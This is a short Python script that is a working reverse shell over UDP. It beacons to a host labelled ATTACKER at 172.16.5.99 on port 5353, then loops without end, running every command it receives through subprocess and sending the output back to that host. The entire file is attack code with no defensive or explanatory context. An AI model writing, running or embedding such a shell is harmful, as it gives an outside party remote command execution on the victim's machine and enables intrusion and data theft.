import socket
import subprocess

ATTACKER = ("172.16.5.99", 5353)
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.sendto(b"hello", ATTACKER)
while True:
    data, _ = sock.recvfrom(2048)
    res = subprocess.getoutput(data.decode())
    sock.sendto(res.encode()[:60000], ATTACKER)
